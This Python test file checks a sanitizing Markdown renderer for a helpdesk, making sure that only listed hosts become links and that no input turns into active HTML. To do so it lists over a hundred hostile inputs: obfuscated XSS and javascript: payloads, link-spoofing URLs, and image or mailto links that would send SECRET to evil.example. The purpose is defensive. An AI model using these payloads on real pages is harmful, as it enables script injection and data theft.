"""A model's Markdown in a browser: what is shown, which links stay links, and that nothing else does anything."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.text import as_sent
from apps.core.text.markdown import LONGEST, as_shown

HOSTS = ("acme.deskhand.example", "acme.freshdesk.com")
CITED = ("https://kb.example.com/a/1?b=2", "http://old.example.com/", "javascript:alert(1)")
REL = 'target="_blank" rel="noopener noreferrer nofollow"'


def shown(markdown: str) -> str:
    return as_shown(markdown, hosts=HOSTS, addresses=CITED)


def test_plain_marks_are_shown():
    assert shown("Hi **bold** *it* `a<b`\nnew\n\n1. one\n2. two\n\n- x\n  - y\n\n```py\nif a < b:\n```") == (
        "<p>Hi <strong>bold</strong> <em>it</em> <code>a&lt;b</code><br>new</p><ol><li>one</li><li>two</li></ol>"
        "<ul><li>x<ul><li>y</li></ul></li></ul><pre><code>if a &lt; b:\n</code></pre>"
    )
    assert shown("5. five\n6. six") == '<ol start="5"><li>five</li><li>six</li></ol>'
    assert shown("# No heading\n> no quote\n---\n| no | table |") == "<p># No heading<br>&gt; no quote<br>---<br>| no | table |</p>"


@pytest.mark.parametrize(
    ("written", "html"),
    [
        ("[guide](https://acme.freshdesk.com/a/1)", f'<a href="https://acme.freshdesk.com/a/1" {REL}>guide</a> <span class="host">(acme.freshdesk.com)</span>'),
        ("[acme.freshdesk.com](https://acme.freshdesk.com/)", f'<a href="https://acme.freshdesk.com/" {REL}>acme.freshdesk.com</a>'),
        ("[x](https://ACME.deskhand.example/t/?q=1#a)", f'<a href="https://acme.deskhand.example/t/?q=1#a" {REL}>x</a> <span class="host">(acme.deskhand.example)</span>'),
        ("[cited](https://kb.example.com/a/1?b=2)", f'<a href="https://kb.example.com/a/1?b=2" {REL}>cited</a> <span class="host">(kb.example.com)</span>'),
        ("[carried](https://kb.example.com/a/1?b=SECRET)", "carried (kb.example.com)"),
        ("[old](http://old.example.com/)", "old (old.example.com)"),
    ],
)  # fmt: skip
def test_a_link_leads_to_us_the_helpdesk_or_exactly_where_the_source_does(written, html):
    assert shown(written) == f"<p>{html}</p>"


EVIL = "evil.example"
TRICKS = (  # none of these may become a link, an image or anything else that acts
    f"[a](https://{EVIL}/)", f"[a](http://{EVIL}/)", f"[a](//{EVIL}/)", f"[a](/\\{EVIL}/)", f"[a](\\\\{EVIL}\\)", f"[a](https:{EVIL})", f"[a](https:/{EVIL})",
    f"[a](https:///{EVIL}/)", f"[a](https://acme.freshdesk.com@{EVIL}/)", f"[a](https://acme.freshdesk.com:x@{EVIL}/)", f"[a](https://acme.freshdesk.com%40{EVIL}/)",
    f"[a](https://acme.freshdesk.com\\@{EVIL}/)", f"[a](https://{EVIL}\\@acme.freshdesk.com/)", f"[a](https://{EVIL}%2f@acme.freshdesk.com/)", "[a](https://user:pw@acme.freshdesk.com/)",
    f"[a](https://acme.freshdesk.com.{EVIL}/)", f"[a](https://{EVIL}/acme.freshdesk.com)", f"[a](https://{EVIL}?https://acme.freshdesk.com/)", f"[a](https://{EVIL}#@acme.freshdesk.com/)",
    "[a](https://xacme.freshdesk.com/)", "[a](https://acme-freshdesk.com/)", "[a](https://evil.freshdesk.com/)", "[a](https://acme.freshdesk.com:8443/)", "[a](https://acme.freshdesk.com./)",
    "[a](https://аcme.freshdesk.com/)", "[a](https://acme.freshdesk。com.evil.example/)", "[a](https://acme.freshdesk.com\u200b.evil.example/)", "[a](https://acme.fre\u017fhdesk.com.evil/)", "[a](https://faß.example/)",
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java&#115;cript:alert(1))", "[a](&#x6A;avascript:alert(1))", "[a](&#106;&#97;&#118;ascript&colon;alert(1))", "[a](javascript&colon;alert(1))",
    "[a](java\\script:alert(1))", "[a](<java\tscript:alert(1)>)", "[a](<javascript:alert(1)>)", "[a](<  javascript:alert(1)>)", "[a](\x01javascript:alert(1))", "[a](javascript%3Aalert(1))", "[a](%6Aavascript:alert(1))",
    "[a](jav\u0430script:alert(1))", "[a](javascript\uff1aalert(1))", "[a](java\u00adscript:alert(1))", "[a](vbscript:msgbox(1))", "[a](livescript:x)", "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[a](data:image/svg+xml;base64,PHN2Zz4=)", "[a](blob:https://acme.freshdesk.com/1)", "[a](filesystem:https://acme.freshdesk.com/x)", "[a](file:///etc/passwd)",
    "[a](ftp://acme.freshdesk.com/)", "[a](mailto:x@evil.example?body=SECRET)", "[a](tel:+19005550100)", "[a](sms:+1900)", "[a](ms-word:ofe|u|https://evil.example/x)", "[a](view-source:https://acme.freshdesk.com/)", "[a](about:blank)",
    "[a](intent://evil.example#Intent;scheme=https;end)", "[a](ws://acme.freshdesk.com/)", "[a](/logout/)", "[a](logout)", "[a](#)", "[a](?q=SECRET)", "[a]()", "[a](<>)",
    f"![a](https://{EVIL}/p.png?d=SECRET)", f"![](https://{EVIL}/p.png)", "![a](https://acme.freshdesk.com/p.png)", "![a](data:image/png;base64,AAAA)", "![a](cid:1)", f"[![a](https://{EVIL}/p)](https://{EVIL}/)", f"![a][r]\n\n[r]: https://{EVIL}/p.png",
    f"[a][r]\n\n[r]: https://{EVIL}/", "[r]\n\n[r]: javascript:alert(1) \"t\"", f"<https://{EVIL}/>", "<javascript:alert(1)>", f"https://{EVIL}/?d=SECRET", f"www.{EVIL}", "x@evil.example", "<x@evil.example>",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", f"<img src='https://{EVIL}/p'>", "<svg onload=alert(1)>", f"<iframe src=https://{EVIL}></iframe>", f"<a href='https://{EVIL}'>a</a>", f"<link rel=stylesheet href=https://{EVIL}>", f"<meta http-equiv=refresh content='0;url=https://{EVIL}'>",
    f"<style>@import 'https://{EVIL}'</style>", "<!-- x --><b onclick=alert(1)>b</b>", "<form action=https://evil.example><input name=q></form>", "<base href=https://evil.example>", f"`<img src=https://{EVIL}>`", f"```\n<img src=https://{EVIL}>\n```", f"    <img src=https://{EVIL}>",
    f"[a](https://{EVIL}/ \"onmouseover=alert(1)\")", f"[a](https://{EVIL}/ '\"><img src=x onerror=alert(1)>')", "[a](https://acme.freshdesk.com\"onclick=alert(1))", "[<img src=x onerror=alert(1)>](https://evil.example)", "**<img src=x onerror=alert(1)>**", "- <img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "```<img src=x onerror=alert(1)>\nx\n```", "[a](https://acme.freshdesk.com/helpdesk/attachments/1)", "[a](https://acme.freshdesk.com/inline/attachment?token=eyJh.eyJi.c)",
    "\U000e003c\U000e0069\U000e006d\U000e0067 src=x>", "\u202egnp.x//:sptth\u202c", "[a\u202e](https://evil.example/)", "[https://acme.freshdesk.com/](https://evil.example/)", "[acme.freshdesk.com](https://evil.example/)",
)  # fmt: skip
_TAG = re.compile(r"<(/?)([a-z]+)([^>]*)>")


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_becomes_more_than_words(trick):
    html = shown(trick)
    for _, name, attributes in _TAG.findall(html):
        assert name in {"p", "ul", "li", "strong", "em", "code", "pre", "br", "span"}, html
        assert attributes in ("", ' class="host"'), html
    if trick.startswith("[") and f"](https://{EVIL}" in trick and "@" not in trick:
        assert f"({EVIL})" in html  # whoever reads it sees where it would have led
    assert "\u202e" not in html and "\u200b" not in html


def test_over_sixty_tricks():
    assert len(set(TRICKS)) == len(TRICKS) >= 100


@pytest.mark.parametrize("trick", [*TRICKS, "**b** [x](https://acme.freshdesk.com/a?b=c&d=e) `c`", "1. a\n   - b\n\n     c"])
def test_the_wall_for_mail_changes_nothing_of_it(trick):
    """The reader of strangers' mail judges it once more: what it would change is what we wrote wrong."""
    html = shown(trick)
    assert as_sent(re.sub(r' <span class="host">.*?</span>', "", html), images={}, words=lambda *_: "") == html


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=10), st.sampled_from(["[", "](", ")", "!", "https://evil.example", "<", ">", "\n", "- ", "1. ", "`", "```\n", "**", "_", "&#", ";", "\\", '"', "javascript:", "https://acme.freshdesk.com/"])), max_size=14).map("".join))
def test_whatever_is_written_only_listed_links_are_links(markdown):
    html = shown(markdown)
    for _, name, attributes in _TAG.findall(html):
        assert name in {"p", "ul", "ol", "li", "strong", "em", "code", "pre", "br", "span", "a"}
        if href := re.search(r'href="([^"]*)"', attributes):
            assert unescape(href[1]).startswith("https://acme.freshdesk.com/")


def test_long_ones_are_words_alone_and_deep_ones_end():
    assert "<strong>" not in shown("**a** " * LONGEST)
    for unit in ("- ", "[", "**", "`", "![", "[a](", "<", "1. ", "\\", "&", "*a_", "((", "\n- " ):
        assert shown((unit * LONGEST)[:LONGEST]) is not None
